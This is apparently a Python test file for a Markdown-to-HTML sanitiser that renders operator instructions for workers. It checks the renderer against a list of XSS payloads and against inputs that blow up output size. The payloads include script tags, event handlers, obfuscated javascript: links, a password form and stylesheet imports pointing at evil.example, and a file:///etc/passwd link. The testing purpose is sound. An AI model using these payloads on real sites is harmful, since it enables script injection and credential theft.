"""Operators write instructions; they must do earners no harm."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tessera.projects.instructions import LONGEST, to_html
from tests.api.refusing import refused
from tests.quality.court import court
from tests.world import World

ALLOWED = {
    "a", "blockquote", "br", "code", "em", "h1", "h2", "h3", "h4", "hr", "li", "ol", "p", "pre",
    "strong", "ul",
}  # fmt: skip
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<form action=//evil.example><input name=password></form>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example></object>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onmouseover='alert(1)'>",
    "[x](https://ok.example \"' onmouseover=alert(1) x='\")",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href=https://ok.example style=position:fixed;inset:0>x</a>",
]


class Reader(HTMLParser):
    """What a browser would find: tags, attributes, link targets."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.targets: list[str] = []
        self.words: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.targets += [value or "" for name, value in attrs if name == "href"]

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def harmless(html: str) -> bool:
    found = Reader(html)
    safe = re.compile(r"(https?|mailto):|[^:]*$")
    return (
        found.tags <= ALLOWED
        and found.attributes <= {"href", "rel", "title"}
        and all(safe.match(target) for target in found.targets)
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_loads_or_restyles_gets_through(attack: str) -> None:
    assert harmless(to_html(attack))
    assert harmless(to_html(f"before\n\n{attack}\n\nafter"))


@given(st.lists(st.sampled_from([*ATTACKS, "*", "`", "\n", "[", "](", ">", "a", " ", "|"])))
def test_no_mixture_of_attacks_gets_through_either(parts: list[str]) -> None:
    assert harmless(to_html("".join(parts)))


def test_what_operators_need_stays() -> None:
    html = to_html(
        "# Coins\n\nDraw *every* **coin**, also `cut` ones.\n\n1. first\n2. second\n\n> note\n\n"
        "[example](https://ok.example/a?b=1&c=2)"
    )
    found = Reader(html)
    assert {"h1", "em", "strong", "code", "ol", "li", "blockquote", "a"} <= found.tags
    assert found.targets == ["https://ok.example/a?b=1&c=2"]
    assert 'rel="noopener noreferrer nofollow"' in html


def test_html_is_shown_as_it_was_written() -> None:
    assert "".join(Reader(to_html("<b>5 < 7 & so</b>")).words).strip() == "<b>5 < 7 & so</b>"


PIECES = [
    "[", "![", "*", "*a ", "> ", "- ", "-\n", "1. ", "`", "[](", "[]()", "[a]", "|", "|a", "<", "&",
    "a\n\n", "# a\n", "    ", "<aa:>", "[]: ", '"', "\N{GRINNING FACE}", "http://a", "\n", " ",
    "|-", "|-|\n", "|a|b|\n|-|-|\n", "[a]: http://a.b\n\n", "x" * 100,
]  # fmt: skip


@pytest.mark.parametrize("piece", PIECES)
def test_what_is_repeated_makes_html_in_proportion(piece: str) -> None:
    assert_in_proportion(piece * (LONGEST // len(piece)))


@given(st.lists(st.tuples(st.sampled_from(PIECES), st.integers(1, 300)), max_size=8))
def test_no_mixture_makes_much_html_of_little(runs: list[tuple[str, int]]) -> None:
    assert_in_proportion("".join(piece * times for piece, times in runs)[:LONGEST])


def assert_in_proportion(markdown: str) -> None:
    # the dearest: a link to nowhere, of four characters, is an <a> of fifty
    assert len(to_html(markdown)) <= 15 * len(markdown) + 100


@pytest.mark.parametrize(
    "markdown",
    [
        "|a" * 500 + "\n" + "|-" * 500 + "\n" + "|\n" * 500,
        f"[a]: http://{'x' * 5_000}\n\n" + "[a]" * 1_500,
        f"[a]: /\u00e9{'x' * 3_000} '{'y' * 2_000}'\n\n" + "![a]\n\n" * 500,
    ],
)
def test_what_fills_itself_up_is_left_as_text(markdown: str) -> None:
    assert len(markdown) < LONGEST
    assert_in_proportion(markdown)


async def test_earners_get_instructions_only_as_harmless_html(world: World) -> None:
    here = await court(world, "a.jpg", instructions="\n\n".join(["# Coins", *ATTACKS]))
    await here.launch()
    (earner,) = await here.earners(1)
    (listed,) = (await earner.get("/v1/work/offers"))["items"]
    alone = await earner.get(f"/v1/work/offers/{here.project['id']}")
    for offer in (listed, alone):
        assert harmless(offer["instructions_html"])
        assert "<h1>Coins</h1>" in offer["instructions_html"]


async def test_instructions_are_as_long_as_is_cheap_to_show(world: World) -> None:
    operator, organisation_id = await world.operator()
    project = await world.project(operator, organisation_id, instructions="i" * LONGEST)
    path = f"/v1/projects/{project['id']}"
    got = await operator.call("PATCH", path, {"instructions": "i" * (LONGEST + 1)})
    assert refused(got)
